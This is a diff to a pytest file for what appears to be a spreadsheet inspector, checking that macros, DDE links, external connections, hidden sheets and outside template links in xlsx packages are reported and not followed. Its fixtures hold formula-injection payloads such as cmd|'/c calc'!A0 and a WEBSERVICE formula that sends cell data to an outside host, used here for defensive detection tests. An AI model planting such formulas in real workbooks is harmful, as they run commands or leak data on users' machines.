@@ -8,6 +8,7 @@ from pathlib import Path
 import pytest
 
 from support.hostile import MAIN, PLAIN, SHEET, TYPES, looked_at, refusal, zipped
+from wbgen.files.findings import Kind
 from wbgen.files.xlsx.package import Limits
 
 
@@ -96,36 +97,40 @@ RELATIONSHIP = (
 
 
 @pytest.mark.parametrize(
-    ("part", "content", "code"),
+    ("part", "content", "kind"),
     [
-        ("xl/vbaProject.bin", b"\xd0\xcf", "macros"),
-        ("xl/macrosheets/sheet1.xml", b"<macrosheet/>", "macros"),
-        ("customUI/customUI.xml", b"<customUI/>", "macros"),
+        ("xl/vbaProject.bin", b"\xd0\xcf", Kind.MACROS),
+        ("xl/macrosheets/sheet1.xml", b"<macrosheet/>", Kind.MACROS),
+        ("customUI/customUI.xml", b"<customUI/>", Kind.MACROS),
         (
             TYPES,
             b'<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
-            "macros",
+            Kind.MACROS,
         ),
-        ("xl/externalLinks/externalLink1.xml", b"<externalLink/>", "external-link"),
-        ("xl/externalLinks/externalLink1.xml", b'<externalLink><ddeLink ddeService="cmd"/></externalLink>', "dde"),
-        ("xl/connections.xml", b"<connections/>", "data-connection"),
-        ("xl/queryTables/queryTable1.xml", b"<queryTable/>", "data-query"),
-        ("customXml/item1.xml", b"<DataMashup>AAAA</DataMashup>", "data-query"),
-        ("xl/embeddings/oleObject1.bin", b"\xd0\xcf", "embedded-object"),
-        ("xl/activeX/activeX1.xml", b"<ocx/>", "embedded-object"),
-        (SHEET, formula("cmd|'/c calc'!A0"), "dde"),
-        (SHEET, formula("'cmd'|'/c calc'!A0"), "dde"),
-        (SHEET, formula('WEBSERVICE("http://example.org/"&amp;A1)'), "reaches-out"),
-        (SHEET, formula('DDE("soffice","x.ods","A1")'), "reaches-out"),
-        ("xl/workbook.xml", b"<workbook><definedName name='a'>cmd|'/c calc'!A0</definedName></workbook>", "dde"),
-        ("xl/workbook.xml", b'<workbook><sheet name="Old" state="hidden"/></workbook>', "hidden-sheet"),
-        ("xl/workbook.xml", b'<workbook><sheet name="Old" state="veryHidden"/></workbook>', "hidden-sheet"),
-        ("xl/_rels/x.rels", RELATIONSHIP.format("attachedTemplate", "//host/x", "External").encode(), "outside-target"),
+        ("xl/externalLinks/externalLink1.xml", b"<externalLink/>", Kind.EXTERNAL_LINK),
+        ("xl/externalLinks/externalLink1.xml", b'<externalLink><ddeLink ddeService="cmd"/></externalLink>', Kind.DDE),
+        ("xl/connections.xml", b"<connections/>", Kind.DATA_CONNECTION),
+        ("xl/queryTables/queryTable1.xml", b"<queryTable/>", Kind.DATA_QUERY),
+        ("customXml/item1.xml", b"<DataMashup>AAAA</DataMashup>", Kind.DATA_QUERY),
+        ("xl/embeddings/oleObject1.bin", b"\xd0\xcf", Kind.EMBEDDED_OBJECT),
+        ("xl/activeX/activeX1.xml", b"<ocx/>", Kind.EMBEDDED_OBJECT),
+        (SHEET, formula("cmd|'/c calc'!A0"), Kind.DDE),
+        (SHEET, formula("'cmd'|'/c calc'!A0"), Kind.DDE),
+        (SHEET, formula('WEBSERVICE("http://example.org/"&amp;A1)'), Kind.REACHES_OUT),
+        (SHEET, formula('DDE("soffice","x.ods","A1")'), Kind.REACHES_OUT),
+        ("xl/workbook.xml", b"<workbook><definedName name='a'>cmd|'/c calc'!A0</definedName></workbook>", Kind.DDE),
+        ("xl/workbook.xml", b'<workbook><sheet name="Old" state="hidden"/></workbook>', Kind.HIDDEN_SHEET),
+        ("xl/workbook.xml", b'<workbook><sheet name="Old" state="veryHidden"/></workbook>', Kind.HIDDEN_SHEET),
+        (
+            "xl/_rels/x.rels",
+            RELATIONSHIP.format("attachedTemplate", "//host/x", "External").encode(),
+            Kind.OUTSIDE_TARGET,
+        ),
     ],
 )
-def test_what_is_unusual_is_said_and_not_followed(tmp_path: Path, part: str, content: bytes, code: str) -> None:
+def test_what_is_unusual_is_said_and_not_followed(tmp_path: Path, part: str, content: bytes, kind: Kind) -> None:
     package = looked_at(tmp_path, zipped({**PLAIN, part: content}))
-    said = [note for note in package.notes if note.code == code]
+    said = [note for note in package.notes if note.kind is kind]
     assert [note.part for note in said] == [part]
     assert said[0].text
 
